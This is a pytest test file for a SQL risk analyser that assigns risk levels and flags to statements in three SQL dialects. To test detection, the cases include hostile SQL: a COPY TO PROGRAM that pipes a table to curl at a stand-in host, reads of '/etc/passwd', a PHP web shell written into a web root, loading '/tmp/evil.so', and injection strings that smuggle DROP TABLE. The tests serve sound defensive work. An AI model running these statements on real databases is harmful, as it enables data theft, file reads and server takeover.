"""Risk analysis of SQL cells: a table of statements in PostgreSQL, MySQL/MariaDB and SQLite.

Each case asserts the level, the flags that must be present (a subset: more may be reported),
read_only, parsed, and the tables where they matter. Pure logic: no database is involved.
"""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import NamedTuple

import pytest

from cellgate.gateway.risk import FLAGS, LEVELS, PYTHON_FLAGS, RULES, Risk, analyze, analyze_sql

DOCS = Path(__file__).resolve().parents[2] / "docs" / "risk.md"


class Case(NamedTuple):
    id: str
    dialect: str
    sql: str
    level: str
    flags: tuple[str, ...] = ()
    read_only: bool = False
    parsed: bool = True
    tables: tuple[str, ...] | None = None   # None: not asserted
    statements: tuple[str, ...] | None = None


PG, MY, MARIA, LITE = "postgresql", "mysql", "mariadb", "sqlite"

CASES = [
    # ------------------------------------------------------------------ PostgreSQL: reads
    Case("pg-select", PG, "SELECT * FROM accounts", "low", (), True, tables=("accounts",), statements=("SELECT",)),
    Case("pg-join", PG, "SELECT a.id, o.total FROM public.accounts a JOIN orders o ON o.account_id = a.id "
         "WHERE o.total > 10", "low", (), True, tables=("orders", "public.accounts")),
    Case("pg-cte", PG, "WITH big AS (SELECT * FROM orders WHERE total > 100) SELECT * FROM big JOIN accounts "
         "USING (id)", "low", (), True, tables=("accounts", "orders")),
    Case("pg-recursive-cte", PG, "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 10) "
         "SELECT * FROM t", "low", (), True, tables=()),
    Case("pg-subquery", PG, "SELECT * FROM accounts WHERE id IN (SELECT account_id FROM orders)", "low", (), True,
         tables=("accounts", "orders")),
    Case("pg-union", PG, "SELECT id FROM a UNION ALL SELECT id FROM b", "low", (), True, tables=("a", "b")),
    Case("pg-window", PG, "SELECT id, row_number() OVER (PARTITION BY account_id ORDER BY created_at) FROM orders",
         "low", (), True, tables=("orders",)),
    # the kernel sends ":id" as written and PostgreSQL's parser rejects it: nothing to approve
    Case("pg-named-param", PG, "SELECT * FROM accounts WHERE id = :id", "high", ("unparseable",), parsed=False),
    Case("pg-percent", PG, "SELECT * FROM accounts WHERE name LIKE '%smith%' AND id % 2 = 0", "low", (), True),
    Case("pg-jsonb", PG, """SELECT '{"a":1}'::jsonb -> 'a' AS a""", "low", (), True, tables=()),
    Case("pg-limit", PG, "SELECT * FROM accounts ORDER BY id LIMIT 10 OFFSET 5", "low", (), True),
    Case("pg-values", PG, "VALUES (1, 'a'), (2, 'b')", "low", (), True, statements=("VALUES",)),
    Case("pg-table-statement", PG, "TABLE accounts", "low", (), True, tables=("accounts",)),
    Case("pg-quoted-identifiers", PG, 'SELECT * FROM "Sales"."Orders"', "low", (), True, tables=("sales.orders",)),
    Case("pg-show", PG, "SHOW search_path", "low", (), True, statements=("SHOW",)),
    Case("pg-explain", PG, "EXPLAIN SELECT * FROM accounts", "low", (), True, tables=("accounts",),
         statements=("EXPLAIN",)),
    Case("pg-explain-delete-not-run", PG, "EXPLAIN DELETE FROM accounts", "low", (), True, tables=("accounts",)),
    Case("pg-explain-analyze-select", PG, "EXPLAIN ANALYZE SELECT * FROM accounts", "low", (), True),
    Case("pg-two-selects", PG, "SELECT 1; SELECT 2", "low", ("multiple_statements",), True,
         statements=("SELECT", "SELECT")),
    # ------------------------------------------------------------------ PostgreSQL: DML
    Case("pg-explain-analyze-delete", PG, "EXPLAIN ANALYZE DELETE FROM accounts WHERE id = 1", "medium", ("write",),
         tables=("accounts",), statements=("DELETE",)),
    Case("pg-explain-analyze-options-no-where", PG, "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM accounts", "critical",
         ("delete_without_where", "write")),
    Case("pg-insert-values", PG, "INSERT INTO accounts (id, name) VALUES (1, 'a')", "medium", ("write",),
         tables=("accounts",)),
    Case("pg-insert-select", PG, "INSERT INTO archive SELECT * FROM accounts WHERE closed", "medium", ("write",),
         tables=("accounts", "archive")),
    Case("pg-on-conflict", PG, "INSERT INTO accounts (id, name) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE "
         "SET name = EXCLUDED.name", "medium", ("write",), tables=("accounts",)),
    Case("pg-update-where", PG, "UPDATE accounts SET status = 'closed' WHERE id = 42", "medium", ("write",),
         tables=("accounts",), statements=("UPDATE",)),
    Case("pg-update-from", PG, "UPDATE accounts a SET total = o.total FROM orders o WHERE o.account_id = a.id",
         "medium", ("write",), tables=("accounts", "orders")),
    Case("pg-update-no-where", PG, "UPDATE accounts SET status = 'closed'", "critical",
         ("update_without_where", "write"), tables=("accounts",)),
    Case("pg-delete-no-where", PG, "DELETE FROM public.accounts", "critical", ("delete_without_where",),
         tables=("public.accounts",)),
    Case("pg-delete-where", PG, "DELETE FROM sessions WHERE expires_at < now()", "medium", ("write",)),
    Case("pg-where-1-eq-1", PG, "UPDATE accounts SET a = 1 WHERE 1=1", "critical", ("tautological_where",)),
    Case("pg-where-true", PG, "DELETE FROM accounts WHERE true", "critical", ("tautological_where",)),
    Case("pg-or-1-eq-1", PG, "DELETE FROM accounts WHERE id = 5 OR 1 = 1", "critical", ("tautological_where",)),
    Case("pg-where-a-eq-a", PG, "DELETE FROM accounts WHERE 'a' = 'a'", "critical", ("tautological_where",)),
    Case("pg-where-x-eq-x", PG, "UPDATE accounts SET a = 1 WHERE id = id", "critical", ("tautological_where",)),
    Case("pg-where-not-false", PG, "DELETE FROM accounts WHERE NOT false", "critical", ("tautological_where",)),
    Case("pg-where-like-percent", PG, "DELETE FROM accounts WHERE name LIKE '%'", "critical", ("tautological_where",)),
    Case("pg-where-1-eq-1-and-real", PG, "DELETE FROM accounts WHERE 1 = 1 AND id = 5", "medium", ("write",)),
    Case("pg-merge", PG, "MERGE INTO accounts t USING staging s ON t.id = s.id WHEN MATCHED THEN UPDATE SET "
         "name = s.name WHEN NOT MATCHED THEN INSERT (id, name) VALUES (s.id, s.name)", "medium", ("write",),
         tables=("accounts", "staging"), statements=("MERGE",)),
    Case("pg-write-in-cte", PG, "WITH d AS (DELETE FROM sessions WHERE expires_at < now() RETURNING *) "
         "SELECT count(*) FROM d", "high", ("write_in_cte", "write"), tables=("sessions",), statements=("SELECT",)),
    Case("pg-write-in-cte-no-where", PG, "WITH d AS (DELETE FROM sessions RETURNING *) SELECT * FROM d", "critical",
         ("write_in_cte", "delete_without_where"), tables=("sessions",)),
    Case("pg-for-update", PG, "SELECT * FROM accounts WHERE id = 1 FOR UPDATE", "medium", ("lock",),
         tables=("accounts",)),
    # ------------------------------------------------------------------ PostgreSQL: DDL, DCL
    Case("pg-drop-table", PG, "DROP TABLE accounts", "critical", ("drop", "ddl"), tables=("accounts",)),
    Case("pg-drop-schema", PG, "DROP SCHEMA billing CASCADE", "critical", ("drop",), tables=()),
    Case("pg-drop-database", PG, "DROP DATABASE prod", "critical", ("drop",)),
    Case("pg-truncate", PG, "TRUNCATE accounts, orders", "critical", ("truncate",), tables=("accounts", "orders")),
    Case("pg-alter", PG, "ALTER TABLE accounts ADD COLUMN note text", "high", ("alter", "ddl"), tables=("accounts",)),
    Case("pg-alter-drop-column", PG, "ALTER TABLE accounts DROP COLUMN note", "critical", ("alter", "drop")),
    Case("pg-alter-system", PG, "ALTER SYSTEM SET work_mem = '1GB'", "high", ("alter",)),
    Case("pg-grant", PG, "GRANT SELECT ON accounts TO analyst", "critical", ("dcl",), tables=("accounts",)),
    Case("pg-revoke", PG, "REVOKE ALL ON accounts FROM analyst", "critical", ("dcl",)),
    Case("pg-create-user", PG, "CREATE USER mallory WITH SUPERUSER PASSWORD 'x'", "critical", ("dcl",)),
    Case("pg-create-table", PG, "CREATE TABLE notes (id int PRIMARY KEY, body text)", "high", ("ddl",),
         tables=("notes",)),
    Case("pg-create-index", PG, "CREATE INDEX accounts_name ON accounts (name)", "high", ("ddl",),
         tables=("accounts",)),
    Case("pg-create-temp-table", PG, "CREATE TEMP TABLE scratch (id int)", "medium", ("ddl",)),
    Case("pg-create-table-as", PG, "CREATE TABLE accounts_copy AS SELECT * FROM accounts", "high", ("ddl", "write"),
         tables=("accounts", "accounts_copy")),
    Case("pg-select-into", PG, "SELECT * INTO accounts_copy FROM accounts", "high", ("select_into",),
         tables=("accounts", "accounts_copy")),
    Case("pg-comment-on", PG, "COMMENT ON TABLE accounts IS 'customers'", "high", ("ddl",)),
    Case("pg-create-extension", PG, "CREATE EXTENSION file_fdw", "critical", ("ddl",)),
    # ------------------------------------------------------------------ PostgreSQL: functions, COPY, sessions
    Case("pg-terminate-backend", PG, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'",
         "critical", ("side_effect_function",), tables=("pg_stat_activity",)),
    Case("pg-nextval", PG, "SELECT nextval('orders_id_seq')", "medium", ("side_effect_function",)),
    Case("pg-read-file", PG, "SELECT pg_read_file('/etc/passwd')", "critical", ("side_effect_function",)),
    Case("pg-schema-qualified-function", PG, "SELECT pg_catalog.pg_sleep(10)", "medium", ("side_effect_function",)),
    Case("pg-dblink", PG, "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", "high",
         ("side_effect_function",)),
    Case("pg-lo-export", PG, "SELECT lo_export(1234, '/tmp/x')", "critical", ("file_write", "side_effect_function")),
    Case("pg-set-config", PG, "SELECT set_config('search_path', 'x', false)", "medium",
         ("side_effect_function", "session_change")),
    Case("pg-advisory-lock", PG, "SELECT pg_advisory_lock(42)", "medium", ("side_effect_function", "lock")),
    Case("pg-copy-program", PG, "COPY accounts TO PROGRAM 'curl -d @- http://x'", "critical",
         ("copy", "side_effect_function")),
    Case("pg-copy-to-file", PG, "COPY accounts TO '/tmp/accounts.csv'", "critical", ("copy", "file_write")),
    Case("pg-copy-from-file", PG, "COPY accounts FROM '/etc/passwd'", "critical", ("copy", "write")),
    Case("pg-copy-to-stdout", PG, "COPY (SELECT * FROM accounts) TO STDOUT WITH CSV", "high", ("copy",)),
    Case("pg-copy-from-stdin", PG, "COPY accounts FROM STDIN", "high", ("copy", "write")),
    Case("pg-lock", PG, "LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE", "medium", ("lock",), tables=("accounts",)),
    Case("pg-set", PG, "SET search_path TO billing, public", "medium", ("session_change",)),
    Case("pg-set-role", PG, "SET ROLE admin", "medium", ("session_change",)),
    Case("pg-set-session-authorization", PG, "SET SESSION AUTHORIZATION postgres", "medium", ("session_change",)),
    Case("pg-begin", PG, "BEGIN", "medium", ("transaction_control",), statements=("BEGIN",)),
    Case("pg-rollback", PG, "ROLLBACK", "medium", ("transaction_control",)),
    Case("pg-savepoint", PG, "SAVEPOINT before_fix", "medium", ("transaction_control",)),
    Case("pg-start-transaction-read-only", PG, "START TRANSACTION READ ONLY", "medium", ("transaction_control",)),
    Case("pg-begin-update-commit", PG, "BEGIN; UPDATE accounts SET a = 1 WHERE id = 2; COMMIT;", "high",
         ("multiple_statements", "transaction_control", "write"), statements=("BEGIN", "UPDATE", "COMMIT")),
    Case("pg-call", PG, "CALL archive_old_orders(30)", "high", ("call",)),
    Case("pg-do-block", PG, "DO $$ BEGIN DELETE FROM t; END $$", "high", ("call",), statements=("DO",)),
    Case("pg-vacuum", PG, "VACUUM accounts", "medium", (), tables=("accounts",)),
    Case("pg-vacuum-full", PG, "VACUUM FULL accounts", "high", ("lock",)),
    Case("pg-refresh-concurrently", PG, "REFRESH MATERIALIZED VIEW CONCURRENTLY daily_totals", "medium"),
    Case("pg-refresh", PG, "REFRESH MATERIALIZED VIEW daily_totals", "high", ("lock", "write")),
    # ------------------------------------------------------------------ PostgreSQL: what cannot be read
    Case("pg-garbage", PG, "this is not sql", "high", ("unparseable",), parsed=False, statements=("OTHER",)),
    Case("pg-syntax-error", PG, "SELECT FROM WHERE", "high", ("unparseable",), parsed=False),
    Case("pg-empty", PG, "", "low", (), True, tables=(), statements=()),
    Case("pg-whitespace", PG, "  \n\t ;; ", "low", (), True, statements=()),
    Case("pg-comment-only", PG, "-- nothing to see\n/* here */", "low", (), True, statements=()),
    Case("pg-backslash-quote", PG, r"SELECT '\'; DROP TABLE accounts; --'", "critical", ("unparseable", "drop"),
         parsed=False),
    Case("pg-bad-dollar-quote", PG, "SELECT $1$ ; DROP TABLE t; $1$", "critical", ("unparseable",), parsed=False),
    Case("pg-one-bad-among-good", PG, "SELECT 1; SELEC 2; DELETE FROM t", "critical",
         ("unparseable", "delete_without_where", "multiple_statements"), parsed=False),
    # ------------------------------------------------------------------ MySQL / MariaDB
    Case("my-backticks", MY, "SELECT `id`, `name` FROM `shop`.`Customers` WHERE `id` = 1 LIMIT 10", "low", (), True,
         tables=("shop.customers",)),
    Case("my-limit-offset", MY, "SELECT * FROM orders LIMIT 5, 10", "low", (), True, tables=("orders",)),
    Case("my-left-join", MY, "SELECT c.id FROM customers c LEFT JOIN orders o ON o.cid = c.id", "low", (), True,
         tables=("customers", "orders")),
    Case("my-show-tables", MY, "SHOW TABLES", "low", (), True),
    Case("my-show-create", MY, "SHOW CREATE TABLE customers", "low", (), True),
    Case("my-describe", MY, "DESCRIBE customers", "low", (), True, tables=("customers",)),
    Case("my-explain", MY, "EXPLAIN SELECT * FROM customers", "low", (), True, tables=("customers",)),
    Case("my-explain-analyze-select", MY, "EXPLAIN ANALYZE SELECT * FROM customers", "low", (), True),
    Case("my-explain-analyze-update", MY, "EXPLAIN ANALYZE UPDATE customers SET vip = 1", "critical",
         ("update_without_where",), statements=("UPDATE",)),
    Case("maria-analyze-statement", MARIA, "ANALYZE DELETE FROM customers", "critical", ("delete_without_where",),
         statements=("DELETE",)),
    Case("my-analyze-table", MY, "ANALYZE TABLE customers", "medium", (), tables=("customers",)),
    Case("my-insert", MY, "INSERT INTO customers (name) VALUES ('a')", "medium", ("write",), tables=("customers",)),
    Case("my-on-duplicate-key", MY, "INSERT INTO counters (k, v) VALUES ('a', 1) ON DUPLICATE KEY UPDATE v = v + 1",
         "medium", ("write",), tables=("counters",)),
    Case("my-replace-into", MY, "REPLACE INTO customers (id, name) VALUES (1, 'a')", "medium", ("write",),
         tables=("customers",), statements=("REPLACE",)),
    Case("maria-replace-select", MARIA, "REPLACE INTO archive SELECT * FROM orders WHERE id < 10", "medium",
         ("write",), tables=("archive", "orders")),
    Case("my-insert-select", MY, "INSERT INTO archive SELECT * FROM orders WHERE created < '2020-01-01'", "medium",
         ("write",), tables=("archive", "orders")),
    Case("my-update-limit-no-where", MY, "UPDATE customers SET vip = 1 LIMIT 10", "critical",
         ("update_without_where",)),
    Case("my-multi-table-delete", MY, "DELETE o, i FROM orders o JOIN items i ON i.oid = o.id WHERE o.id = 5",
         "medium", ("write",), tables=("items", "orders")),
    Case("my-multi-table-delete-no-where", MY, "DELETE o FROM orders o JOIN items i ON i.oid = o.id", "critical",
         ("delete_without_where",)),
    Case("my-where-1", MY, "DELETE FROM customers WHERE 1", "critical", ("tautological_where",)),
    Case("my-drop", MY, "DROP TABLE IF EXISTS customers", "critical", ("drop",), tables=("customers",)),
    Case("my-truncate", MY, "TRUNCATE TABLE customers", "critical", ("truncate",), tables=("customers",)),
    Case("my-alter", MY, "ALTER TABLE customers ADD INDEX idx_name (name)", "high", ("alter",)),
    Case("my-rename-table", MY, "RENAME TABLE customers TO clients", "high", ("alter",)),
    Case("my-grant", MY, "GRANT ALL PRIVILEGES ON shop.* TO 'bob'@'%'", "critical", ("dcl",)),
    Case("my-create-user", MY, "CREATE USER 'bob'@'%' IDENTIFIED BY 'x'", "critical", ("dcl",)),
    Case("my-set-password", MY, "SET PASSWORD FOR 'bob'@'%' = 'x'", "critical", ("dcl",)),
    Case("my-into-outfile", MY, "SELECT * FROM customers INTO OUTFILE '/tmp/c.csv'", "critical",
         ("file_write", "unparseable"), parsed=False, tables=("customers",)),
    Case("my-into-dumpfile", MY, "SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/x.php'", "critical",
         ("file_write",), parsed=False),
    Case("my-into-variable", MY, "SELECT COUNT(*) INTO @n FROM customers", "medium", ("session_change",),
         tables=("customers",)),
    Case("my-load-data", MY, "LOAD DATA INFILE '/tmp/c.csv' INTO TABLE customers", "critical",
         ("copy", "write", "unparseable"), parsed=False, tables=("customers",), statements=("LOAD",)),
    Case("my-load-data-local", MY, "LOAD DATA LOCAL INFILE 'c.csv' INTO TABLE customers", "high", ("copy", "write"),
         parsed=False),
    Case("my-sleep", MY, "SELECT SLEEP(5)", "medium", ("side_effect_function",)),
    Case("my-benchmark", MY, "SELECT BENCHMARK(100000000, MD5('x'))", "medium", ("side_effect_function",)),
    Case("my-load-file", MY, "SELECT LOAD_FILE('/etc/passwd')", "critical", ("side_effect_function",)),
    Case("my-get-lock", MY, "SELECT GET_LOCK('deploy', 10)", "medium", ("side_effect_function", "lock")),
    Case("my-for-update", MY, "SELECT * FROM customers WHERE id = 1 FOR UPDATE", "medium", ("lock",)),
    Case("my-lock-in-share-mode", MY, "SELECT * FROM customers LOCK IN SHARE MODE", "medium", ("lock",)),
    Case("my-lock-tables", MY, "LOCK TABLES customers WRITE, orders READ", "medium", ("lock",),
         tables=("customers", "orders")),
    Case("my-unlock-tables", MY, "UNLOCK TABLES", "medium", ("lock",)),
    Case("my-use", MY, "USE shop", "medium", ("session_change",), statements=("USE",)),
    Case("my-set-global", MY, "SET GLOBAL max_connections = 1", "high", ("session_change",)),
    Case("my-set-session", MY, "SET SESSION sql_mode = 'ANSI'", "medium", ("session_change",)),
    Case("my-transaction", MY, "START TRANSACTION; DELETE FROM carts WHERE id = 1; COMMIT", "high",
         ("multiple_statements", "transaction_control", "write"), statements=("BEGIN", "DELETE", "COMMIT")),
    Case("my-kill", MY, "KILL 42", "critical", ("side_effect_function",)),
    Case("my-optimize", MY, "OPTIMIZE TABLE customers", "high", ("lock",)),
    Case("my-call", MY, "CALL cleanup()", "high", ("call",)),
    Case("my-flush", MY, "FLUSH PRIVILEGES", "high"),
    Case("my-executable-comment", MY, "SELECT 1 /*! ; DROP TABLE customers */", "high", ("unparseable",),
         parsed=False),
    Case("maria-executable-comment", MARIA, "SELECT 1 /*M!100100 , 2 */", "high", ("unparseable",), parsed=False),
    Case("my-backslash-quote", MY, r"SELECT * FROM customers WHERE name = 'O\'Brien'", "high", ("unparseable",),
         parsed=False),
    Case("my-doubled-quote", MY, "SELECT * FROM customers WHERE name = 'O''Brien'", "low", (), True),
    Case("my-dash-dash-no-space", MY, "SELECT 1 --1; DROP TABLE customers", "critical",
         ("drop", "multiple_statements", "unparseable"), parsed=False),
    Case("my-pyformat-placeholder", MY, "SELECT * FROM customers WHERE id = %s", "high", ("unparseable",),
         parsed=False),
    Case("my-garbage", MY, "SELEC * FROM x", "high", ("unparseable",), parsed=False),
    # ------------------------------------------------------------------ SQLite
    Case("lite-select-qmark", LITE, "SELECT * FROM users WHERE id = ?", "low", (), True, tables=("users",)),
    Case("lite-named-param", LITE, "SELECT * FROM users WHERE id = :id", "low", (), True),
    Case("lite-join", LITE, "SELECT u.id, p.title FROM users u JOIN posts p ON p.user_id = u.id", "low", (), True,
         tables=("posts", "users")),
    Case("lite-window", LITE, "SELECT id, sum(x) OVER (ORDER BY id) FROM t", "low", (), True),
    Case("lite-pragma-table-info", LITE, "PRAGMA table_info(users)", "low", (), True, tables=("users",)),
    Case("lite-pragma-read", LITE, "PRAGMA foreign_keys", "low", (), True),
    Case("lite-pragma-writable-schema", LITE, "PRAGMA writable_schema = 1", "high", ("session_change",)),
    Case("lite-pragma-set", LITE, "PRAGMA cache_size = 1000", "medium", ("session_change",)),
    Case("lite-attach", LITE, "ATTACH DATABASE '/var/www/evil.php' AS evil", "critical", ("file_write",)),
    Case("lite-detach", LITE, "DETACH DATABASE evil", "medium", ("session_change",)),
    Case("lite-vacuum", LITE, "VACUUM", "high", ("lock",)),
    Case("lite-vacuum-into", LITE, "VACUUM INTO '/tmp/copy.db'", "critical", ("file_write",)),
    Case("lite-upsert", LITE, "INSERT INTO kv (k, v) VALUES ('a', 1) ON CONFLICT(k) DO UPDATE SET v = excluded.v",
         "medium", ("write",), tables=("kv",)),
    Case("lite-insert-or-replace", LITE, "INSERT OR REPLACE INTO kv VALUES ('a', 1)", "medium", ("write",)),
    Case("lite-replace-into", LITE, "REPLACE INTO kv VALUES ('a', 1)", "medium", ("write",), tables=("kv",),
         statements=("REPLACE",)),
    Case("lite-upsert-keyword", LITE, "UPSERT INTO kv VALUES ('a', 1)", "high", ("unparseable",), parsed=False),
    Case("lite-delete-no-where", LITE, "DELETE FROM users", "critical", ("delete_without_where",)),
    Case("lite-update-where", LITE, "UPDATE users SET name = 'x' WHERE id = 3", "medium", ("write",)),
    Case("lite-drop", LITE, "DROP TABLE users", "critical", ("drop",)),
    Case("lite-create-table", LITE, "CREATE TABLE t (id INTEGER PRIMARY KEY)", "high", ("ddl",)),
    Case("lite-alter-rename", LITE, "ALTER TABLE users RENAME TO people", "high", ("alter",)),
    Case("lite-load-extension", LITE, "SELECT load_extension('/tmp/evil.so')", "critical",
         ("side_effect_function",)),
    Case("lite-writefile", LITE, "SELECT writefile('/tmp/x', 'data')", "critical", ("file_write",)),
    Case("lite-explain-query-plan", LITE, "EXPLAIN QUERY PLAN SELECT * FROM users WHERE id = 1", "low", (), True,
         tables=("users",)),
    Case("lite-transaction", LITE, "BEGIN; DELETE FROM users WHERE id = 1; COMMIT;", "high",
         ("multiple_statements", "write")),
    # the trigger body's ";" splits it for the tokenizer: the pieces cannot be parsed, so it stays high
    Case("lite-trigger", LITE, "CREATE TRIGGER t AFTER INSERT ON users BEGIN DELETE FROM log; END", "high",
         ("ddl", "unparseable"), parsed=False),
    Case("lite-garbage", LITE, "hello world", "high", ("unparseable",), parsed=False),
    Case("lite-empty", LITE, "", "low", (), True),
    Case("lite-comment-only", LITE, "-- a comment", "low", (), True),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_sql_risk(case: Case) -> None:
    result = analyze_sql(case.sql, case.dialect)
    assert result.level == case.level, result.reasons
    assert set(case.flags) <= set(result.flags), result.flags
    assert result.read_only is case.read_only
    assert result.parsed is case.parsed
    if case.tables is not None:
        assert result.tables == case.tables
    if case.statements is not None:
        assert result.statements == case.statements
    # what holds for every result
    assert result.level in LEVELS
    assert list(result.flags) == sorted(set(result.flags))
    assert set(result.flags) <= set(FLAGS)
    assert result.reasons, "every result explains itself"
    assert not (result.read_only and not result.parsed)
    assert ("unparseable" in result.flags) is (not result.parsed)


def test_cases_cover_three_dialects() -> None:
    per_dialect = {d: sum(1 for c in CASES if c.dialect in d) for d in ((PG,), (MY, MARIA), (LITE,))}
    assert len(CASES) >= 80
    assert all(count >= 25 for count in per_dialect.values()), per_dialect


# ---------------------------------------------------------------------- details

def test_reasons_name_statement_and_table_most_serious_first() -> None:
    result = analyze_sql("SELECT 1; UPDATE accounts SET status = 'x'; INSERT INTO log VALUES (1)", PG)
    assert result.level == "critical"
    assert result.reasons[0] == "UPDATE on accounts has no WHERE clause: every row changes"
    assert result.reasons.index("INSERT into log") > 0


def test_explain_lists_updates_and_deletes_in_their_original_text() -> None:
    code = "SELECT 1;\nUPDATE accounts SET note = $1 WHERE id = 7;\nDELETE FROM s WHERE x = '%a';\nINSERT INTO t VALUES (1)"
    result = analyze_sql(code, PG)
    assert result.explain == ("UPDATE accounts SET note = $1 WHERE id = 7", "DELETE FROM s WHERE x = '%a'")


def test_explain_includes_the_statement_explain_analyze_runs() -> None:
    assert analyze_sql("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", PG).explain == ("DELETE FROM t WHERE id = 1",)
    assert analyze_sql("EXPLAIN DELETE FROM t WHERE id = 1", PG).explain == ()


def test_as_dict_is_json_safe_and_complete() -> None:
    result = analyze_sql("UPDATE accounts SET a = 1", PG)
    data = result.as_dict()
    assert json.loads(json.dumps(data)) == data
    assert set(data) == {"level", "reasons", "flags", "statements", "tables", "read_only", "parsed", "explain"}
    assert data["explain"] == ["UPDATE accounts SET a = 1"]


def test_risk_is_frozen() -> None:
    result = analyze_sql("SELECT 1", PG)
    with pytest.raises(AttributeError):
        result.level = "critical"  # type: ignore[misc]


@pytest.mark.parametrize("dialect", ["postgresql", "postgres", "mysql", "mariadb", "sqlite", "PostgreSQL"])
def test_dialect_names(dialect: str) -> None:
    assert analyze_sql("SELECT 1", dialect).read_only


@pytest.mark.parametrize("dialect", ["oracle", "", "mssql"])
def test_unknown_dialect_is_never_read_only(dialect: str) -> None:
    result = analyze_sql("SELECT 1", dialect)
    assert (result.parsed, result.read_only, result.level) == (False, False, "high")
    assert "unparseable" in result.flags


def test_dispatcher() -> None:
    assert analyze("SELECT 1", "sql", "postgresql").read_only
    assert analyze("SELECT 1", "sql", None).parsed is False  # a SQL target without a dialect
    assert analyze("import os\nos.system('x')", "python", None).flags == ("subprocess",)
    other = analyze("ls -la", "shell", None)
    assert (other.parsed, other.level, other.read_only) == (False, "high", False)
    assert other.reasons == ("cells of kind 'shell' are not analysed",)


def test_many_statements() -> None:
    code = ";\n".join(f"SELECT * FROM t{i} WHERE id = {i}" for i in range(50))
    result = analyze_sql(code, PG)
    assert result.read_only and len(result.statements) == 50 and len(result.tables) == 50
    assert result.level == "low" and "multiple_statements" in result.flags


def test_statement_boundaries_are_the_sql_kernels() -> None:
    """The kernel splits a cell with kernels/sql/split.py; the analysis reports exactly those statements."""
    from cellgate.kernels.sql.split import split_statements

    cells = [
        "SELECT 1; SELECT 2",
        "EXPLAIN ANALYZE DELETE FROM t; SELECT 'a;b'",
        "CALL p('x;y'); DROP TABLE t",
        "DO $$ BEGIN; END $$; SELECT 1",
        "VACUUM FULL t; -- c;\nSELECT $a$;$a$",
        "SHOW x; SELECT 1 /* ; */; LOCK TABLE t",
    ]
    mysql = ["REPLACE INTO t VALUES (1); SELECT 2", "LOCK TABLES t WRITE; SELECT '--;'", "SELECT 1 --1; DROP TABLE t"]
    sqlite = ["SELECT 1; SELECT ';'", "CREATE TRIGGER t AFTER INSERT ON x BEGIN SELECT 1; END; SELECT 2"]
    for dialect, batch in (("postgresql", cells), ("mysql", mysql), ("mariadb", mysql), ("sqlite", sqlite)):
        for cell in batch:
            result = analyze_sql(cell, dialect)
            assert result.texts == tuple(split_statements(cell, dialect)), cell
            if result.parsed:
                assert len(result.texts) == len(result.statements), cell
    for case in CASES:
        assert analyze_sql(case.sql, case.dialect).texts == tuple(split_statements(case.sql, case.dialect)), case.id


def test_sqlglot_noise_never_reaches_logs(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    for sql in ("VACUUM t", "SET ROLE x", "EXPLAIN SELECT 1", "LOCK TABLE t", "REFRESH MATERIALIZED VIEW v"):
        analyze_sql(sql, PG)
    analyze_sql("REPLACE INTO t VALUES (1)", MY)
    assert not [r for r in caplog.records if r.name.startswith("sqlglot")]


def test_sqlglot_logging_outside_the_analysis_is_untouched(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.WARNING, logger="sqlglot")
    logging.getLogger("sqlglot").warning("from someone else")
    assert [r.getMessage() for r in caplog.records] == ["from someone else"]


# ---------------------------------------------------------------------- the rule table

def test_rule_levels_are_levels() -> None:
    assert all(level in LEVELS for level, _ in RULES.values())


def test_docs_list_every_rule_with_its_level() -> None:
    text = DOCS.read_text()
    for rule, (level, what) in RULES.items():
        assert f"| `{rule}` | {level} | {what} |" in text, f"docs/risk.md does not show {rule} as in risk.RULES"
    for flag in (*FLAGS, *PYTHON_FLAGS):
        assert f"`{flag}`" in text, f"docs/risk.md misses flag {flag}"


def test_risk_dataclass_shape() -> None:
    result = Risk(level="low", reasons=(), flags=(), statements=(), tables=(), read_only=True, parsed=True)
    assert result.explain == ()
